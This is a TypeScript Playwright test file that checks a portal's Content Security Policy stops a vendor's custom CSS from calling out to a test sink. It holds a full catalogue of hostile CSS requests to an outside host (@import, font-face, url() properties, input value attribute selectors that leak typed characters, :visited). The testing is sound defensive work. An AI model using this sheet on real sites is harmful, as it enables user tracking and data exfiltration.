import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { requirePortal, updatePortal } from '../../src/features/portals/server/store.ts';
import { findVendorBySlug } from '../../src/features/vendors/server/store.ts';
import { inTransaction } from '../../src/kit/server/db/db.ts';
import { openBrowser, panelReady, patienceMs } from './browser.ts';
import { type Demo, startDemo, tokenOf } from './demo.ts';
import { openSink, type Sink } from './vendor-script.ts';

let browser: Browser;
let demo: Demo;
let sink: Sink;
const slug = 'stromwerk';
beforeAll(async () => {
  [browser, demo, sink] = [await openBrowser(), await startDemo('sqlite'), await openSink()];
  const { db } = demo.opened.database;
  const vendorId = (await findVendorBySlug(db, 'demo', 'live'))?.id ?? '';
  const customCss = { enabled: true, source: 'h1 { color: #123456 }' };
  await inTransaction(db, async (tx) => {
    const { id } = await requirePortal(tx, vendorId, `ext:${slug}`);
    await updatePortal(tx, vendorId, id, { customCss }, { at: new Date(), testSide: false });
  });
});
afterAll(async () => {
  await browser?.close();
  await demo?.stop();
  sink?.stop();
});

/** As a style sheet would look if the check of it let everything through: each way by which CSS asks for an address. */
const hostile = (base: string): string => `
@import "${base}/import";
@import url("${base}/import-url") layer(x);
@namespace svg url("${base}/namespace");
@font-face { font-family: spy; src: url("${base}/font"); unicode-range: U+0-10FFFF }
@font-face { font-family: spy2; src: url("${base}/font.woff2") format("woff2") }
:root { --u: url("${base}/variable"); background-image: var(--u) }
html { background: u\\72l("${base}/escaped") }
body { background: url("${base}/body"), url("//${new URL(base).host}/scheme"); font-family: spy, spy2 !important; cursor: url("${base}/cursor"), auto }
* { list-style-image: url("${base}/list"); border-image: url("${base}/border") 1; mask: url("${base}/mask#m"); filter: url("${base}/filter.svg#f"); clip-path: url("${base}/clip.svg#c"); shape-outside: url("${base}/shape") }
*::before { content: url("${base}/content") }
*::after { content: image-set("${base}/set" 1x, url("${base}/set-2x") 2x); background: cross-fade(url("${base}/fade"), url("${base}/fade2")) }
a[href^="#"], a[href^="/"] { background: url("${base}/attribute") }
input[value^="a"], input:not([value=""]) { background: url("${base}/input") }
a:visited, a:hover { background: url("${base}/link") }
@media print { body { background: url("${base}/print") } }
@keyframes spy { from { background: url("${base}/frame-1") } to { background: url("${base}/frame-2") } }
main { animation: spy 1s infinite }
@page { background: url("${base}/page") }
`;

/** The portal's page with the hostile sheet in the place of the vendor's, as if nothing had been refused. */
async function visit({ bypassCSP = false } = {}) {
  const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: 'en-GB', bypassCSP });
  context.setDefaultTimeout(patienceMs);
  const page = await context.newPage();
  await page.route(`**/looks/${slug}/*.css`, (route) =>
    route.fulfill({
      contentType: 'text/css; charset=utf-8',
      body: [`https://${sink.https}`, `http://${sink.http}`].map(hostile).join(''),
    }),
  );
  const refused = new Set<string>();
  page.on('console', (message) => {
    const [, directive] = /directive: "?(style-src|font-src|img-src|default-src)/.exec(message.text()) ?? [];
    if (directive) refused.add(directive);
  });
  await page.goto(`${demo.portico}/p/${slug}?language=en#token=${await tokenOf(demo, slug)}`);
  await page.locator(panelReady('contracts')).waitFor();
  // The rules are at work: this one is theirs.
  await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).fontFamily)).toContain('spy');
  return { page, refused, close: () => context.close() };
}

test('C01 past its check, hostile CSS still sends nothing: the portal’s policy alone stops each way out', async () => {
  const { page, refused, close } = await visit();
  await page.getByRole('link', { name: 'My details' }).click();
  await page.locator(panelReady('profile')).waitFor();
  await page.getByLabel('Phone').fill('a');
  await page.emulateMedia({ media: 'print' });
  await expect.poll(() => [...refused].sort()).toEqual(['font-src', 'img-src', 'style-src']);
  expect(sink.hits).toEqual([]);
  await close();
});

test('C01 the same sheet in a browser that ignores the policy does reach the sink', async () => {
  const { close } = await visit({ bypassCSP: true });
  for (const kind of ['/import', '/font', '/body', '/variable'])
    await expect.poll(() => sink.hits.join(' '), { timeout: patienceMs }).toContain(`GET ${kind}`);
  await close();
  sink.hits.length = 0;
});
